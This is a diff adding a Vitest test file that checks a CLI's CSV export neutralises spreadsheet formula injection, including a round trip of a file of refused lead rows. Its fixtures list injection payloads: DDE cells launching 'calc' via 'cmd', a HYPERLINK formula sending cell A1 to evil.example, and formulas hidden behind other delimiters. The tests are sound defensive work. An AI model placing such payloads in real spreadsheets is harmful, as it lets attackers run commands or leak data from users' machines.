@@ -1,0 +1,85 @@
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { cellText, csvCell } from '#clients/cli/src/csv-cells.ts';
+import { leadOf, refusedFile } from '#clients/cli/src/lead-columns.ts';
+import { readLeadFile } from '#clients/studio/src/leads/lead-file.ts';
+
+const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+const attacks = [
+  ...starts.map((start) => `${start}cmd|' /C calc'!A0`),
+  ...starts.map((start) => `${start}1`).filter((cell) => cell !== '+1'),
+  '=HYPERLINK("http://evil.example?x="&A1,"Ada")',
+  "'=1+1",
+  "''@x",
+  '+49-30-901820',
+  '+1+cmd',
+  '-5',
+];
+/** For a spreadsheet that expects another delimiter. */
+const hidden = ['Ada;=1+1', 'Ada,@x', 'Ada\t-1', 'two\n=1+1', ";;'=1", 'a;;=b;+c'];
+const harmless = [
+  '',
+  'Ada',
+  'a=1',
+  "O'Neill",
+  "'tis",
+  '+4930901820',
+  '+12025550101',
+  'a,b',
+  'say "x"',
+  'two\nlines',
+  'a;b',
+];
+
+describe('a cell of a CSV file', () => {
+  it.each(attacks)('is no formula: %j', (cell) => {
+    expect(csvCell(cell)).toMatch(/^"'/);
+  });
+
+  it.each(hidden)('hides no formula behind another delimiter: %j', (cell) => {
+    expect(csvCell(cell)).not.toMatch(/[,;\t\n][=@+-]/);
+  });
+
+  it.each([...attacks, ...hidden, ...harmless])('is read as it was: %j', (cell) => {
+    const [[read = '']] = parse(csvCell(cell) || '""', { relax_quotes: false }) as [[string]];
+    expect(cellText(read)).toBe(cell);
+  });
+
+  it('keeps phone numbers as they are, for people and other programs', () => {
+    expect(csvCell('+4930901820')).toBe('+4930901820');
+  });
+});
+
+describe('the file of refused rows', () => {
+  // Cells are trimmed, as in every import.
+  const cells = [...attacks, ...hidden, ...harmless].map((cell) => cell.trim());
+  const heading = ['phone_number', '=HYPERLINK("x")', 'note'];
+  const rows = cells.map((note, index) => ({
+    line: index + 2,
+    cells: [index % 2 === 0 ? '+4930901820' : '030 901820', '=1+1', note],
+    reason: '=It was refused.',
+  }));
+
+  it('comes back as it was after a correction, once and ten times', () => {
+    let file = { heading, rows };
+    for (let round = 0; round < 10; round += 1) {
+      const text = refusedFile(file.heading, file.rows);
+      const lines = parse(text, { trim: true }) as string[][];
+      for (const cell of lines.flat()) expect(cell).not.toMatch(/(?:^|[,;\t\n])[=\-@＝＋－＠]|^\+(?!\d+$)/);
+      const read = readLeadFile(text);
+      const withReason = read.rows.map((row) => ({ ...row, reason: '=It was refused.' }));
+      file = { heading: read.heading, rows: withReason };
+      expect(read.heading).toEqual([...heading, 'refused_because']);
+      expect(read.rows.map((row) => row.cells.slice(0, 3))).toEqual(rows.map((row) => row.cells));
+    }
+  });
+
+  it('gives the numbers and variables of the first file to the next import', () => {
+    const read = readLeadFile(refusedFile(heading, rows));
+    expect(leadOf(read.heading, read.rows[0]!.cells, 7)).toEqual({
+      campaign_id: 7,
+      phone_number: '+4930901820',
+      variables: { '=HYPERLINK("x")': '=1+1', note: cells[0] },
+    });
+  });
+});
